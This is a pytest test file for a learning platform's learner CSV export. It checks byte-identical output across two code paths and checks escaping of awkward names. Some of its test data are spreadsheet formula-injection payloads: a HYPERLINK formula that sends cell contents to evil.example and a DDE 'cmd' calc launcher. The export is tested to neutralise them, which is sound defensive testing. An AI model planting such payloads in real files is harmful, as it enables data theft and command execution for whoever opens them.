"""The learner CSV as of today (issue #19): the database writes it, byte for byte as before.

As of today the report reads ``course_facts`` in one query and the database
writes each CSV line (:func:`lms.reports.learners.learner_csv_chunks`); an
earlier day takes the exact path's typed rows through
:func:`lms.core.export.csv_chunks`. Both must give the same bytes for today, on
the reports' world plus people whose names, e-mails and authorities are
awkward: quotes, commas, line breaks, accents, formula starts (they come from
spreadsheets). Run on SQLite and on PostgreSQL (``LMS_TEST_DATABASE_URL``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import timedelta
from decimal import Decimal

import pytest
from flask.testing import FlaskClient, FlaskCliRunner
from report_world import World, utc, world_fixture  # noqa: F401 - the world fixture
from sqlalchemy import String, literal, select

from lms.assessments.models import QuizAttempt
from lms.auth.models import Role, User
from lms.core.export import csv_chunks, escape_text
from lms.core.types import today_in_italy
from lms.courses.models import (
    Course,
    CourseCompletion,
    CourseStatus,
    Module,
    ModuleKind,
    ModuleProgress,
    QuizVersion,
)
from lms.enrolments.models import Enrolment
from lms.extensions import db
from lms.register.models import Authority, StaffCategory, StaffMember
from lms.reports import learners
from lms.reports.filters import ReportFilters
from lms.reports.learners import COLUMNS, learner_csv_chunks, learner_page, learner_rows

#: Texts that a CSV writer or a spreadsheet could get wrong.
AWKWARD = [
    "",
    " ",
    "plain",
    'with "quotes"',
    '"',
    '""',
    "comma, inside",
    "line\nbreak",
    "carriage\rreturn",
    "crlf\r\nboth",
    "tab\tinside",
    " leading and trailing ",
    "àèìòù ÀÉ ß ñ ç",
    "emoji 🎓 and ∑",
    "back\\slash",
    "\\.",
    "semi;colon",
    "'already quoted",
    '=HYPERLINK("http://evil.example/","clic")',
    "+39 081 123",
    "-2+3",
    "@SUM(A1)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    '=1+1, "and" more\n',
]


def _hours_course(slug: str, hours: str, required: int, quizzes: int) -> tuple[Course, list]:
    """A published course with *required* page modules and *quizzes* quizzes (all current)."""
    course = Course(
        slug=slug,
        title=f"Corso {slug}",
        hours=Decimal(hours),
        source_hash="0" * 64,
        status=CourseStatus.PUBLISHED,
    )
    db.session.add(course)
    db.session.flush()
    modules = []
    for position in range(required + quizzes):
        kind = ModuleKind.PAGE if position < required else ModuleKind.QUIZ
        module = Module(
            course_id=course.id,
            slug=f"m{position}",
            position=position,
            title=f"m{position}",
            kind=kind,
            filename=f"m{position}.md",
            source_hash="0" * 64,
        )
        db.session.add(module)
        db.session.flush()
        if kind is ModuleKind.QUIZ:
            db.session.add(QuizVersion(module_id=module.id, version=1, questions=[], pass_mark=60))
        modules.append(module)
    return course, modules


@pytest.fixture(name="awkward")
def awkward_fixture(world: World, make_authority: Callable[..., Authority]) -> World:
    """The reports' world plus awkward people, in courses whose numbers round at the edges."""
    place = make_authority("=cmd|' /C calc'!A0", name='Comune "di", Prova\nSud', region_code="18")
    other = make_authority("063050", name="-Ente @ rischio", region_code="15")
    thirds, thirds_modules = _hours_course("terzi", "0.25", 1, 2)  # 33.3 %, 66.7 %
    tiny, _ = _hours_course("=zero-ore", "0.05", 0, 0)  # no module to count: 0.0 %
    halves, halves_modules = _hours_course("mezzi", "12.5", 2, 0)
    users: list[User] = []
    for number, text in enumerate(AWKWARD):
        user = User(
            email=f"awkward{number}@example.it",
            role=Role.LEARNER,
            first_name="A",
            last_name="B",
        )
        db.session.add(user)
        db.session.flush()
        users.append(user)
        member = StaffMember(
            codice_fiscale=f"AWKWRD{number:02d}A01F839X"[:16],
            first_name=text,
            last_name=AWKWARD[-1 - number],
            email=f"{text[:20]}{number}@example.it" if number % 3 else f"x{number}@example.it",
            authority_id=(place if number % 2 else other).id,
            category=StaffCategory.NEW_HIRE if number % 2 else StaffCategory.EXISTING,
            user_id=user.id,
        )
        db.session.add(member)
        db.session.flush()
        today = today_in_italy()
        enrolled = utc("2026-04-01 10:00") + timedelta(hours=number)
        for course in (thirds, tiny, halves):
            due = None if number % 4 == 0 else today + timedelta(days=(number % 3) - 1)
            db.session.add(
                Enrolment(staff_id=member.id, course_id=course.id, enrolled_at=enrolled, due_on=due)
            )
        # Progress and scores that round half up: 1 or 2 modules of 3, and quiz
        # scores whose mean ends in 5 hundredths.
        for module in thirds_modules[: number % 3]:
            db.session.add(
                ModuleProgress(
                    user_id=user.id,
                    module_id=module.id,
                    started_at=enrolled,
                    last_seen_at=enrolled,
                    completed_at=enrolled + timedelta(minutes=5),
                )
            )
        for attempt, (module, score) in enumerate(
            zip(thirds_modules[1:], ("66.65", "33.35")[: number % 3], strict=False)
        ):
            version = db.session.scalars(
                select(QuizVersion).where(QuizVersion.module_id == module.id)
            ).one()
            db.session.add(
                QuizAttempt(
                    user_id=user.id,
                    module_id=module.id,
                    quiz_version_id=version.id,
                    number=attempt + 1,
                    started_at=enrolled,
                    submitted_at=enrolled + timedelta(minutes=10),
                    layout={},
                    responses={},
                    results={},
                    earned=0,
                    possible=0,
                    score_pct=Decimal(score),
                    passed=False,
                )
            )
        if number % 5 == 0:
            # Completed at 23:30 UTC: the next day in Italy.
            db.session.add(
                CourseCompletion(
                    user_id=user.id, course_id=halves.id, completed_at=utc("2026-05-31 23:30")
                )
            )
            db.session.add(
                CourseCompletion(
                    user_id=user.id, course_id=thirds.id, completed_at=utc("2026-06-01 08:00")
                )
            )
        if number % 7 == 1:
            db.session.add(
                ModuleProgress(
                    user_id=user.id,
                    module_id=halves_modules[0].id,
                    started_at=enrolled,
                    last_seen_at=enrolled,
                )
            )
    db.session.commit()
    world.users.update({f"awkward{n}": u for n, u in enumerate(users)})
    return world


def _exact(monkeypatch: pytest.MonkeyPatch) -> None:
    """From now on every report takes the exact path, whatever its day."""
    monkeypatch.setattr(ReportFilters, "uses_facts", property(lambda _self: False))


def _bytes(chunks: Iterator[bytes]) -> bytes:
    return b"".join(chunks)


def _today_filters(world: World) -> list[ReportFilters]:
    today = today_in_italy()
    return [
        ReportFilters(reader=None, as_of=today),
        ReportFilters(reader=None, as_of=today, course=world.a),
        ReportFilters(reader=None, as_of=today, category=StaffCategory.NEW_HIRE),
        ReportFilters(reader=None, as_of=today, region=world.napoli.region),
        ReportFilters(reader=None, as_of=today, authority=world.milano),
    ]


def test_facts_and_exact_paths_write_the_same_bytes_today(
    awkward: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    filters = _today_filters(awkward)
    assert all(f.uses_facts for f in filters)
    fast = [_bytes(learner_csv_chunks(f)) for f in filters]
    typed = [_bytes(csv_chunks(COLUMNS, (r.cells() for r in learner_rows(f)))) for f in filters]
    typed_rows = [list(learner_rows(f)) for f in filters]
    pages = [learner_page(f, page=1, per_page=1000) for f in filters]
    _exact(monkeypatch)
    exact = [_bytes(learner_csv_chunks(f)) for f in filters]
    assert fast == exact
    assert typed == exact
    # The typed rows of the facts path (pages, XLSX) are the exact path's too.
    assert typed_rows == [list(learner_rows(f)) for f in filters]
    assert pages == [learner_page(f, page=1, per_page=1000) for f in filters]
    # Not trivially equal: every status, awkward cells, rounding, hours.
    whole = exact[0].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(whole, newline="")))
    assert len(rows) > 3 * len(AWKWARD)
    statuses = {row[COLUMNS.index("status")] for row in rows[1:]}
    assert statuses == {"completed", "overdue", "in_progress", "not_started"}
    assert {"33.3", "66.7", "0.0", "100.0"} <= {row[COLUMNS.index("progress_pct")] for row in rows}
    assert {"50.0", "66.7"} <= {row[COLUMNS.index("best_score_pct")] for row in rows}
    assert {"0.25", "12.5", "8", "0"} <= {row[COLUMNS.index("hours")] for row in rows}
    assert "2026-06-01" in {row[COLUMNS.index("completed_on")] for row in rows}
    assert 'Comune ""di"", Prova\nSud' in whole
    assert "line\nbreak" in whole
    assert whole.count("\r\n") >= len(rows)


def test_an_hr_manager_sees_the_same_rows_on_both_paths(
    awkward: World, monkeypatch: pytest.MonkeyPatch, make_user: Callable[..., User]
) -> None:
    reader = make_user(Role.HR, scope=[awkward.napoli, awkward.milano.region])
    filters = ReportFilters(reader=reader, as_of=today_in_italy())
    fast = _bytes(learner_csv_chunks(filters))
    _exact(monkeypatch)
    assert fast == _bytes(learner_csv_chunks(filters))
    names = {row[0][:4] for row in csv.reader(io.StringIO(fast.decode("utf-8-sig"), newline=""))}
    assert names == {"codi", "ANNA", "BRUN", "CARL", "HUGO", "IVAN"}


def test_small_batches_give_the_same_file(awkward: World, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: ARG001
    # On PostgreSQL the rows come from a server-side cursor a batch at a time.
    filters = ReportFilters(reader=None, as_of=today_in_italy())
    whole = _bytes(learner_csv_chunks(filters))
    monkeypatch.setattr(learners, "BATCH", 3)
    chunks = list(learner_csv_chunks(filters))
    assert len(chunks) > 10
    assert b"".join(chunks) == whole


def test_a_formula_in_a_name_is_written_as_text(
    world: World, make_authority: Callable[..., Authority], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attack: a roster row whose cells are spreadsheet formulas."""
    evil = make_authority("@evil", name='=HYPERLINK("http://evil.example/","Apri")')
    member = StaffMember(
        codice_fiscale="=EVILX80A01F839X",
        first_name="+cmd|' /C calc'!A0",
        last_name='=HYPERLINK("http://evil.example/?"&A1,"Clicca")',
        email="-1+1@example.it",
        authority_id=evil.id,
        category=StaffCategory.EXISTING,
    )
    db.session.add(member)
    db.session.flush()
    db.session.add(
        Enrolment(staff_id=member.id, course_id=world.a.id, enrolled_at=utc("2026-02-01 12:00"))
    )
    db.session.commit()
    filters = ReportFilters(reader=None, as_of=today_in_italy(), authority=evil)
    fast = _bytes(learner_csv_chunks(filters))
    _exact(monkeypatch)
    assert fast == _bytes(learner_csv_chunks(filters))
    [header, row] = list(csv.reader(io.StringIO(fast.decode("utf-8-sig"), newline="")))
    assert header == list(COLUMNS)
    assert row[:6] == [
        "'=EVILX80A01F839X",
        '\'=HYPERLINK("http://evil.example/?"&A1,"Clicca")',
        "'+cmd|' /C calc'!A0",
        "'-1+1@example.it",
        "'@evil",
        '\'=HYPERLINK("http://evil.example/","Apri")',
    ]
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("first", AWKWARD)
def test_the_database_quotes_and_escapes_as_python_does(first: str) -> None:
    """The SQL that writes a line (escape, then quote, then join) against ``csv.writer``."""
    for second in ("", "x", first, '"' + first):
        cells = [escape_text(first), escape_text(second)]
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerow(cells)
        line = learners._joined(
            [
                learners._quoted(learners._escaped(literal(first, String))),
                learners._quoted(learners._escaped(literal(second, String))),
            ]
        )
        assert db.session.scalar(select(line)) + "\r\n" == buffer.getvalue()


def test_web_and_command_line_send_the_fast_file(
    awkward: World,  # noqa: ARG001
    client: FlaskClient,
    login_as: Callable[..., User],
    runner: FlaskCliRunner,
) -> None:
    expected = _bytes(learner_csv_chunks(ReportFilters(reader=None, as_of=today_in_italy())))
    login_as(Role.ADMIN)
    response = client.get("/reports/learners.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="discenti-{today_in_italy().isoformat()}.csv"'
    )
    assert response.get_data() == expected
    result = runner.invoke(args=["report", "learners"])
    assert result.exit_code == 0, result.stderr
    assert result.stdout_bytes == expected


def test_an_empty_report_is_the_header(world: World) -> None:
    # Rome has an authority but no staff.
    filters = ReportFilters(reader=None, as_of=today_in_italy(), authority=world.roma)
    assert filters.uses_facts
    data = _bytes(learner_csv_chunks(filters))
    assert data == ("\ufeff" + ",".join(COLUMNS) + "\r\n").encode()
